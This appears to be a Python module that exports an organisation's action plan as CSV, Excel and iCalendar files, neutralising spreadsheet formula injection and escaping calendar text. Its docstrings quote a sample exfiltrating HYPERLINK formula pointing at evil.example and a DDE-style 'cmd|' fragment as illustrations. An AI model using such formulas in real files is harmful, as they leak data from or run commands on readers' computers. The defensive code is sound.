"""Exports of an action plan: CSV, XLSX, iCalendar, and their file names.

Plain Python with no Flask import: the caller translates every label (headers, statuses) and
passes :class:`ExportRow` objects; this module only lays them out. Everything an organisation typed
(titles, descriptions, owners…) is untrusted here, because these files leave the application and
are opened by other programs that interpret text: spreadsheets run formulas, calendars parse
separators. Each writer neutralises what its target program would interpret, and nothing else, so
the text the user typed comes back unchanged.
"""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from collections.abc import Iterable, Mapping
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from typing import Literal, get_args

from icalendar import Calendar, Event
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.styles import Alignment, Border, Font, PatternFill, Side
from openpyxl.utils import get_column_letter

ActionState = Literal["open", "done", "dropped"]
"""Where an action stands, as far as exports care: only the calendar treats them differently."""

COLUMNS: tuple[str, ...] = (
    "rank",
    "title",
    "description",
    "theme",
    "question",
    "owner",
    "due",
    "status",
    "indicator",
    "target",
    "overdue",
)
"""Column keys of the CSV and XLSX exports, in order; the caller maps each to a translated header.

The "overdue" column holds its own header (e.g. "En retard") on overdue rows and is empty otherwise:
no extra yes/no translation is needed, the CSV can be filtered on it, and in the XLSX the red
highlight is not the only way the information is given (WCAG 1.4.1, use of colour).
"""

FORMULA_TRIGGERS = frozenset("=+-@\t\r")
"""First characters that make a spreadsheet read a cell as a formula (OWASP, CSV injection)."""

# Excel's own "light red fill with dark red text" preset: #9C0006 on #FFC7CE is a 5.9:1 contrast,
# above the 4.5:1 WCAG AA asks for normal text.
OVERDUE_FILL = PatternFill(fill_type="solid", start_color="FFFFC7CE", end_color="FFFFC7CE")
OVERDUE_FONT = Font(color="FF9C0006")

_SHEET_TITLE_FORBIDDEN = re.compile(r"[\\*?:/\[\]]")
_SHEET_TITLE_MAX = 31  # Excel refuses longer sheet names
MIN_WIDTH, MAX_WIDTH = 6, 50  # in characters; longer text wraps inside the cell
_ORGANISATION_SLUG_MAX = 60


@dataclass(frozen=True)
class ExportRow:
    """One action of the plan, already translated by the caller.

    ``key`` identifies the action for good (its database id): it makes the calendar UID, so that
    importing a newer export updates events instead of duplicating them. ``status`` is the
    translated label shown to people; ``state`` is what the calendar needs to know.
    """

    key: str
    rank: int
    title: str
    description: str
    theme: str
    question: str
    owner: str
    due: date | None
    status: str
    indicator: str
    target: str
    overdue: bool
    state: ActionState = "open"

    def __post_init__(self) -> None:
        if self.state not in get_args(ActionState):
            raise ValueError(f"unknown action state {self.state!r}")
        if not str(self.key):
            raise ValueError("an exported action needs a key (its id) for a stable calendar UID")


def neutralise_formula(text: str) -> str:
    """Prefix ``text`` with an apostrophe when a spreadsheet would read it as a formula.

    Excel and LibreOffice evaluate a CSV cell starting with ``=``, ``+``, ``-`` or ``@`` (and, after
    their trimming rules, a tab or carriage return) as a formula: a title such as
    ``=HYPERLINK("https://evil.example/?"&A1, "Voir")`` or a DDE payload would run on the computer
    of whoever opens the export, with data from the sheet. OWASP's advice is to prepend a single
    quote, which spreadsheets show as text. The rule is blind on purpose: ``-3`` or ``+33 1 23…``
    typed in a free-text field become ``'-3`` and ``'+33 1 23…``, a visible but harmless quote,
    because telling a safe number from an expression like ``-1+cmd|…`` is exactly the parsing the
    spreadsheet would do.
    """
    if text and text[0] in FORMULA_TRIGGERS:
        return "'" + text
    return text


def _check_headers(headers: Mapping[str, str], keys: Iterable[str]) -> None:
    missing = [key for key in keys if key not in headers]
    if missing:
        raise ValueError(f"missing headers for columns: {', '.join(missing)}")


def _values(row: ExportRow, headers: Mapping[str, str]) -> list[str | int | date | None]:
    """The row in :data:`COLUMNS` order, with Python types (the writers decide how to show them)."""
    return [
        row.rank,
        row.title,
        row.description,
        row.theme,
        row.question,
        row.owner,
        row.due,
        row.status,
        row.indicator,
        row.target,
        headers["overdue"] if row.overdue else "",
    ]


def to_csv(rows: Iterable[ExportRow], headers: Mapping[str, str]) -> bytes:
    """The plan as a CSV that French Excel opens right with a double click.

    UTF-8 with a byte order mark, or Excel reads the accents as Windows-1252; ``;`` as separator,
    because Excel with French regional settings expects it (``,`` is the decimal separator); CRLF
    line ends as RFC 4180 says; ISO dates (``2026-11-23``), unambiguous in every locale. Every cell,
    headers included, goes through :func:`neutralise_formula`. Quotes, separators and line breaks
    inside a cell are quoted by the :mod:`csv` module, so nothing else is altered: in particular
    HTML such as ``<script>`` stays verbatim, a CSV is not a web page.
    """
    _check_headers(headers, COLUMNS)
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";", lineterminator="\r\n", quoting=csv.QUOTE_MINIMAL)
    writer.writerow([neutralise_formula(headers[key]) for key in COLUMNS])
    for row in rows:
        cells = []
        for value in _values(row, headers):
            if value is None:
                text = ""
            elif isinstance(value, date):
                text = value.isoformat()
            else:
                text = str(value)
            cells.append(neutralise_formula(text))
        writer.writerow(cells)
    return buffer.getvalue().encode("utf-8-sig")


def safe_sheet_title(title: str) -> str:
    """A sheet name Excel accepts: no ``\\ * ? : / [ ]``, no edge apostrophe, 31 characters."""
    cleaned = _SHEET_TITLE_FORBIDDEN.sub("-", title).strip().strip("'")[:_SHEET_TITLE_MAX].strip()
    return cleaned or "Plan"


def set_text(cell: Cell, text: str) -> None:
    """Write ``text`` as a string cell, never a formula, and keep what the user typed.

    openpyxl turns any str starting with ``=`` into a formula (and ``#N/A`` into an error), so the
    type is forced back to ``"s"`` after assignment: the file stores a string cell
    (``t="inlineStr"``), which Excel displays and never evaluates. Unlike the CSV, no apostrophe is
    added, since in a cell it would be a visible, wrong character; instead, text that looks like a
    formula gets the ``quotePrefix`` style, Excel's own mark for text typed as ``'=…``, so that even
    editing the cell and pressing Enter keeps it text. Control characters that XML 1.0 cannot carry
    (a vertical tab pasted from Word, say) are dropped rather than making the export fail.
    """
    text = ILLEGAL_CHARACTERS_RE.sub("", text)
    cell.value = text
    cell.data_type = "s"
    if text and text[0] in FORMULA_TRIGGERS:
        cell.quotePrefix = True


def display_width(value: str | int | date | None) -> int:
    if value is None:
        return 0
    if isinstance(value, date):
        return 10
    return max((len(line) for line in str(value).splitlines()), default=0)


def to_xlsx(
    rows: Iterable[ExportRow], headers: Mapping[str, str], sheet_title: str, title: str
) -> bytes:
    """The plan as an Excel workbook, ready to filter, sort and print.

    A title line, then a bold header row with an auto-filter, frozen so it stays visible while
    scrolling and repeated on every printed page; columns sized to their content (long text wraps);
    due dates as real dates, so Excel sorts and filters them as dates; overdue rows in Excel's light
    red preset. Text cells follow :func:`set_text`: strings, never formulas.
    """
    _check_headers(headers, COLUMNS)
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = safe_sheet_title(sheet_title)
    workbook.properties.title = ILLEGAL_CHARACTERS_RE.sub("", title)
    workbook.properties.creator = "Écotone"

    title_cell = sheet.cell(row=1, column=1)
    set_text(title_cell, title)
    title_cell.font = Font(bold=True, size=14)

    header_row = 2
    widths = [len(headers[key]) for key in COLUMNS]
    bottom = Border(bottom=Side(style="thin"))
    for index, key in enumerate(COLUMNS, start=1):
        cell = sheet.cell(row=header_row, column=index)
        set_text(cell, headers[key])
        cell.font = Font(bold=True)
        cell.border = bottom
        cell.alignment = Alignment(vertical="top", wrap_text=True)

    top_wrap = Alignment(vertical="top", wrap_text=True)
    row_number = header_row
    for row in rows:
        row_number += 1
        for index, value in enumerate(_values(row, headers), start=1):
            cell = sheet.cell(row=row_number, column=index)
            if isinstance(value, date):
                cell.value = value
                cell.number_format = "yyyy-mm-dd"
            elif isinstance(value, int):
                cell.value = value
            elif value is not None:
                set_text(cell, value)
            cell.alignment = top_wrap
            if row.overdue:
                cell.fill = OVERDUE_FILL
                cell.font = OVERDUE_FONT
            widths[index - 1] = max(widths[index - 1], display_width(value))

    for index, width in enumerate(widths, start=1):
        letter = get_column_letter(index)
        sheet.column_dimensions[letter].width = min(max(width, MIN_WIDTH), MAX_WIDTH) + 2

    last_column = get_column_letter(len(COLUMNS))
    sheet.auto_filter.ref = f"A{header_row}:{last_column}{row_number}"
    sheet.freeze_panes = f"A{header_row + 1}"
    sheet.print_title_rows = f"{header_row}:{header_row}"
    sheet.page_setup.orientation = "landscape"
    sheet.page_setup.fitToWidth = 1
    sheet.page_setup.fitToHeight = 0
    sheet.sheet_properties.pageSetUpPr.fitToPage = True

    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _event_description(
    row: ExportRow, organisation: str, headers: Mapping[str, str], separator: str
) -> str:
    """The event's text: the action's description, then labelled details, then the organisation.

    An imported event loses the context of the plan, so it carries what someone needs to act on
    it: who, which theme and question it answers, and how success is measured.
    """
    details = [
        f"{headers[key]}{separator}{value}"
        for key, value in (
            ("owner", row.owner),
            ("theme", row.theme),
            ("question", row.question),
            ("indicator", row.indicator),
            ("target", row.target),
            ("status", row.status),
        )
        if value
    ]
    blocks = [row.description.strip(), "\n".join(details), organisation.strip()]
    return "\n\n".join(block for block in blocks if block)


def to_ical(
    rows: Iterable[ExportRow],
    calendar_name: str,
    organisation: str,
    uid_domain: str,
    now: datetime | None = None,
    *,
    headers: Mapping[str, str],
    separator: str = " : ",
    include_dropped: bool = False,
) -> bytes:
    """The remaining deadlines of the plan as an iCalendar file (RFC 5545).

    One all-day VEVENT per action that is still open and has a due date: DTSTART is the due date
    as a DATE and DTEND the next day (DTEND is exclusive), which every calendar application shows
    as an all-day event, whereas VTODO is ignored by Google Calendar and Outlook. The calendar is
    what remains to do: done actions need no slot in anyone's diary, and dropped ones would be
    noise. With ``include_dropped`` dropped actions are listed with STATUS:CANCELLED, so that
    importing the file where an older export put them marks them cancelled (same UID) instead of
    leaving a stale deadline. Events are TRANSPARENT: a deadline does not make anyone busy.

    The UID ``action-{key}@{uid_domain}`` is stable across exports, so a new import updates events
    rather than duplicating them. ``headers`` labels the details in DESCRIPTION (the same mapping as
    the CSV's); ``separator`` is " : " for French typography, ": " for English. icalendar escapes
    commas, semicolons, backslashes and newlines and folds long lines.
    """
    _check_headers(headers, ("owner", "theme", "question", "indicator", "target", "status"))
    if not uid_domain:
        raise ValueError("uid_domain is required for globally unique UIDs")
    stamp = datetime.now(UTC) if now is None else now
    stamp = stamp.replace(tzinfo=UTC) if stamp.tzinfo is None else stamp.astimezone(UTC)
    stamp = stamp.replace(microsecond=0)

    calendar = Calendar()
    calendar.add("prodid", "-//Ecotone//Action plan export//FR")
    calendar.add("version", "2.0")
    calendar.add("calscale", "GREGORIAN")
    calendar.add("method", "PUBLISH")
    calendar.add("name", calendar_name)
    calendar.add("x-wr-calname", calendar_name)
    if organisation:
        calendar.add("x-wr-caldesc", organisation)

    for row in rows:
        if row.due is None or row.state == "done":
            continue
        if row.state == "dropped" and not include_dropped:
            continue
        event = Event()
        event.add("uid", f"action-{row.key}@{uid_domain}")
        event.add("dtstamp", stamp)
        event.add("dtstart", row.due)
        event.add("dtend", row.due + timedelta(days=1))
        event.add("summary", row.title)
        event.add("description", _event_description(row, organisation, headers, separator))
        event.add("status", "CANCELLED" if row.state == "dropped" else "CONFIRMED")
        event.add("transp", "TRANSPARENT")
        if row.theme:
            event.add("categories", [row.theme])
        calendar.add_component(event)
    return calendar.to_ical()


_LIGATURES = str.maketrans({"œ": "oe", "Œ": "OE", "æ": "ae", "Æ": "AE", "ß": "ss"})


def _slug(text: str) -> str:
    """Lower-case ASCII words joined by hyphens: "L'Œuvre à côté" gives "l-oeuvre-a-cote".

    NFKD splits accented letters from their accents, which are then dropped; ligatures have no
    decomposition, hence the table.
    """
    decomposed = unicodedata.normalize("NFKD", text.translate(_LIGATURES))
    ascii_text = decomposed.encode("ascii", "ignore").decode("ascii").lower()
    return re.sub(r"[^a-z0-9]+", "-", ascii_text).strip("-")


def export_filename(organisation: str, kind: str, day: date, ext: str) -> str:
    """An ASCII file name such as ``plan-d-actions-la-fabrique-solidaire-2026-11-23.csv``.

    ASCII only, so Content-Disposition needs no RFC 5987 encoding and every file system and mail
    client keeps the name; the organisation part is capped so the name stays readable, and left
    out if nothing of it survives (a name in another script).
    """
    extension = re.sub(r"[^a-z0-9]", "", ext.lower())
    if not extension:
        raise ValueError(f"invalid file extension {ext!r}")
    organisation_slug = _slug(organisation)
    if len(organisation_slug) > _ORGANISATION_SLUG_MAX:
        cut = organisation_slug[: _ORGANISATION_SLUG_MAX + 1]
        organisation_slug = cut.rsplit("-", 1)[0] if "-" in cut else cut[:_ORGANISATION_SLUG_MAX]
    parts = [_slug(kind), organisation_slug, day.isoformat()]
    return "-".join(part for part in parts if part) + "." + extension
